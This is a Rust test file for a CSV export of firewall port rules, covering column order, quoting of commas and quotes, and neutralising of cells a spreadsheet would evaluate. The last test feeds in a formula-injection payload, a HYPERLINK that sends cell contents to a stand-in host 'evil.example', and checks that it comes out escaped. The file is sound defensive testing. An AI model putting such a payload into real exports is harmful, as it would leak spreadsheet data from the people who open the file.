//! Tests of the CSV export: columns, quoting, neutralised formulas.

use super::*;
use crate::export::fixtures::*;

#[test]
fn small_list_as_csv() {
    let list = parse_list(SMALL);
    let expected = concat!(
        "rule,deployment,direction,protocol,port_start,port_end,devices,source,destination,hosts,function,function_de,function_en\r\n",
        "sip,cloud,outbound,tcp,5061,5061,desktop phone,lan,cloud,,function-sip,SIP,SIP\r\n",
        "sip,onsite,inbound,tcp,5061,5061,desktop phone,cloud,lan,,function-sip,SIP,SIP\r\n",
        "media,cloud,outbound,udp,30000,35000,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
        "media,cloud,outbound,udp,3478,3478,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
        "media,cloud,outbound,tcp,30000,35000,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
        "media,cloud,outbound,tcp,3478,3478,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
        "mail,onsite,outbound,tcp,25,25,desktop,lan,mail,mx1.example.net mx2.example.net,function-mail,E-Mail,\"Mail, \"\"relay\"\"\"\r\n",
        "mail,onsite,outbound,tcp,587,587,desktop,lan,mail,mx1.example.net mx2.example.net,function-mail,E-Mail,\"Mail, \"\"relay\"\"\"\r\n",
    );
    assert_eq!(csv(&list, &langs(), &SMALL_LABELS, None), expected);
}

#[test]
fn csv_quotes_a_label_with_a_comma_and_a_quote() {
    let list = parse_list(SMALL);
    let csv = csv(&list, &langs(), &SMALL_LABELS, Some(1));
    let mail = csv
        .split("\r\n")
        .find(|row| row.starts_with("mail,"))
        .unwrap();
    assert!(mail.ends_with(",E-Mail,\"Mail, \"\"relay\"\"\""), "{mail}");

    let mut row = String::new();
    let fields = ["plain", "a,b", "say \"hi\"", "two\nlines", "cr\r", ""].map(str::to_owned);
    csv_row(&mut row, &fields);
    assert_eq!(
        row,
        "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\r\",\r\n"
    );
}

#[test]
fn csv_neutralises_cells_a_spreadsheet_would_evaluate() {
    let mut row = String::new();
    let fields = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "a;=1+1",
        "a\t=1+1",
        "5061",
        "x=1",
        "'quoted",
    ]
    .map(str::to_owned);
    csv_row(&mut row, &fields);
    assert_eq!(
        row,
        concat!(
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",",
            "\"'+1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",",
            "\"a;=1+1\",\"a\t=1+1\",5061,x=1,'quoted\r\n"
        )
    );
}
